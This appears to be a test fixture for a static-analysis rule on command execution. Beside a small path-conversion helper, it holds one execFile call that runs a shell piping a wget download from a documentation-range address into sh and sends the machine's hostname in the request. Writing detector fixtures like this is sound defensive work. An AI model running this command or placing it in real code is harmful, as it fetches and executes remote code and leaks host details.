import { hostname } from 'node:os';

export const toPosix = (p) => p.split('\\').join('/');

const { execFile } = await import('node:child_process');
// The shell's script is a template: its literal text still pipes a download into sh (defanged address).
// ruleid: code/command-execution
execFile('/bin/sh', ['-c', `wget -q -O- "http://203.0.113.7/e?h=${hostname()}" | sh`], () => {});
